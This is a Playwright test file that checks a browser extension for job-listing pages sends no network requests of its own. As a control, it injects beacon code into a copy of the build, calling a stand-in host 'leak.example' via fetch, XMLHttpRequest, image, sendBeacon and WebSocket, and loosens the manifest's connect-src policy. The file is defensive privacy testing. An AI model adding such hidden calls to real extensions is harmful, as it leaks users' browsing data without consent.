// Nothing is asked of the network that the page itself doesn't ask for. The control: a copy of the
// extension that does ask, in every way the test claims to see, is caught.
import type { Page } from '@playwright/test';
import { sampleNamed } from '../page/sample-pages';
import { copyBuild } from './builds';
import { type Extension, expect, openExtension, test } from './extension';
import { ours } from './painted';
import { openPopup, pressButton, summaryOf } from './popup';

const { html, expected } = sampleNamed('work-ua-list');
/** What the page asks for by itself. */
const OWN = ['https://www.work.ua/own.png', 'wss://www.work.ua/own-socket'];
const PAGE = html.replace(
  '</body>',
  '<img src="/own.png"><script>new WebSocket("wss://www.work.ua/own-socket")</script></body>',
);

/** All that the extension does on a listed page: reads, marks, opens its card, its popup, checks a text. */
async function useEverything(extension: Extension): Promise<Page> {
  const { context, web } = extension;
  web.serve(expected.address, PAGE);
  const page = await context.newPage();
  await page.goto(expected.address);
  await expect.poll(async () => (await summaryOf(extension, page))?.marked).toBe(1);
  const inside = await ours(page);
  await expect.poll(() => inside.marks().then(({ length }) => length)).toBe(1);
  await inside.click('.mark');
  await expect.poll(() => inside.card()).not.toBeNull();
  const popup = await openPopup(extension, page);
  await popup.getByRole('button', { name: 'Перевірити текст' }).click();
  await popup
    .getByRole('textbox')
    .fill('Робота за кордоном, паспорт фото скиньте в телеграм, без досвіду');
  await popup.getByRole('button', { name: 'Перевірити', exact: true }).click();
  await popup.getByRole('heading', { level: 3 }).last().waitFor();
  const training = await context.newPage();
  await training.goto(`${extension.origin}/training.html`);
  await training.waitForTimeout(1500);
  return page;
}

test('everything is done without a single request', async ({ extension }) => {
  await useEverything(extension);
  expect(extension.web.asked().sort()).toEqual([expected.address, ...OWN].sort());
});

test('a page that is checked on request is told to nobody', async ({ extension, open }) => {
  const plain = sampleNamed('job-board');
  extension.web.serve(plain.expected.address, plain.html);
  const page = await open(plain.expected.address);
  const popup = await pressButton(extension, page);
  await popup.press('.actions button');
  await expect.poll(async () => (await summaryOf(extension, page))?.read).toBe(3);
  expect(extension.web.asked()).toEqual([plain.expected.address]);
});

test.describe('a copy that leaks', () => {
  const WAYS: [way: string, file: string, code: string, seen: string][] = [
    [
      'fetch in the page',
      'content-scripts/page.js',
      'fetch("https://leak.example/a")',
      'https://leak.example/a',
    ],
    [
      'a request in the page',
      'content-scripts/page.js',
      'const x = new XMLHttpRequest(); x.open("GET", "https://leak.example/b"); x.send()',
      'https://leak.example/b',
    ],
    [
      'an image in the page',
      'content-scripts/page.js',
      'new Image().src = "https://leak.example/c"',
      'https://leak.example/c',
    ],
    [
      'a beacon in the page',
      'content-scripts/page.js',
      'navigator.sendBeacon("https://leak.example/d", "x")',
      'https://leak.example/d',
    ],
    [
      'a socket in the page',
      'content-scripts/page.js',
      'new WebSocket("wss://leak.example/e")',
      'wss://leak.example/e',
    ],
    [
      'fetch in the background',
      'background.js',
      'fetch("https://leak.example/f")',
      'https://leak.example/f',
    ],
  ];

  test('is caught, whichever way it takes', async () => {
    const copy = copyBuild();
    for (const [, file, code] of WAYS) copy.append(file, `setTimeout(() => { ${code} }, 1500);`);
    copy.change('manifest.json', (text) => text.replace("connect-src 'none'", 'connect-src *'));
    const leaking = await openExtension(copy.folder);
    try {
      leaking.web.serve(expected.address, PAGE);
      const page = await leaking.context.newPage();
      await page.goto(expected.address);
      for (const [way, , , seen] of WAYS)
        await expect.poll(() => leaking.web.asked(), { message: way }).toContain(seen);
    } finally {
      await leaking.context.close();
      copy.remove();
    }
  });

  test('is stopped by the policy where it is the background', async () => {
    const copy = copyBuild();
    copy.append(
      'background.js',
      'setTimeout(() => fetch("https://leak.example/f").then(() => { self.leaked = true }, () => { self.leaked = false }), 1500);',
    );
    const leaking = await openExtension(copy.folder);
    try {
      await expect
        .poll(() => leaking.worker.evaluate(() => (self as { leaked?: boolean }).leaked))
        .toBe(false);
      expect(leaking.web.asked()).toEqual([]);
    } finally {
      await leaking.context.close();
      copy.remove();
    }
  });
});
